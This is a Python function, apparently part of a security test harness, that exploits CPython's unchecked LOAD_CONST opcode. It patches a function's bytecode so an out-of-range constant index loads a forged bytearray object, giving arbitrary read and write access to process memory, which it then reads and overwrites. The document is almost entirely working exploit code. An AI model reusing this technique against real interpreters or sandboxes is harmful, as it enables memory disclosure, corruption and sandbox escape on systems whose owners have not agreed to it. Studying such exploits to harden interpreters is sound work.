# LOAD_CONST is not checked: an index far out of its tuple loads any pointer as an object. The object is
# forged in a bytes object: a bytearray that covers the victim, to read and to write.
def attack(arena):
    import opcode
    import struct

    head = 32  # of an object of the free-threaded build: thread id, flags, reference counts, type
    immortal = 0xFFFF_FFFF
    length, address = arena["length"], arena["address"]
    forged = struct.pack("<QIIqQ", 0, 0, immortal, 0, id(bytearray))
    forged += struct.pack("<qqQQq", length, length + 1, address, address, 0)
    inside_bytes = head + 16  # size and hash
    pointer = struct.pack("<Q", id(forged) + inside_bytes)

    def carrier():
        return None

    constants = (carrier, pointer, forged)
    index = (id(pointer) + inside_bytes - (id(constants) + head + 8)) // 8 & 0xFFFF_FFFF
    op = opcode.opmap
    code = [op["RESUME"], 0]
    for shift in (24, 16, 8):
        code += [op["EXTENDED_ARG"], index >> shift & 0xFF]
    code += [op["LOAD_CONST"], index & 0xFF, op["RETURN_VALUE"], 0]
    carrier.__code__ = carrier.__code__.replace(co_code=bytes(code), co_consts=constants, co_stacksize=4)
    window = carrier()
    if type(window) is not bytearray or len(window) != length:
        raise Failed("no window was forged")
    found = reveals(bytes(window), arena)
    window[:] = b"X" * length
    return found
